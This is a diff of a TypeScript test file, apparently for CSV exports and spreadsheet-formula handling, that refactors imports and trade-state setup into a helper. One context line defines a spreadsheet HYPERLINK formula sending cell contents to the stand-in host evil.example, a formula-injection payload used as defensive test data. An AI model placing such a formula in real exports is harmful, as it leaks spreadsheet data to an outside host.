@@ -20,11 +20,10 @@ import {
   scopeOf,
 } from "../../core/partner-users/index.server.ts";
 import { rows } from "../../core/shared/index.server.ts";
-import { changeTradeState } from "../../core/trade/index.server.ts";
 import { partners, partnerStores } from "../../db/schema/index.ts";
 import { describeEachDatabase } from "../../tests/helpers/databases.ts";
-import { bearer, BACKOFFICE, makeStaff, staffTokens } from "../../tests/helpers/staff.ts";
-import { placeTestTrade, smartphoneOffer, uniqueClientAddress, uniqueTradeEmail } from "../../tests/helpers/trades.ts";
+import { BACKOFFICE, bearer, makeStaff, staffTokens } from "../../tests/helpers/staff.ts";
+import { placeTestTrade, smartphoneOffer, toPayoutPending, uniqueClientAddress, uniqueTradeEmail } from "../../tests/helpers/trades.ts";
 import { staffEnvFrom } from "../sessions/staff-env.server.ts";
 
 const FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Preis")';
@@ -167,8 +166,7 @@ describeEachDatabase("CSV exports and spreadsheet formulas", (ctx) => {
     const placed: string[] = [];
     for (let i = 0; i < 2; i++) {
       const { tradeNumber } = await placeTestTrade(ctx(), { paypal: true, email: uniqueTradeEmail("formel") });
-      for (const to of ["received", "inspected", "payout_pending"] as const)
-        await changeTradeState(ctx().database.db, { tradeNumber, to, actor: { kind: "system" }, reason: "test", now: new Date() });
+      await toPayoutPending(ctx(), tradeNumber);
       placed.push(tradeNumber);
     }
     // as a trade placed before the rule may hold it
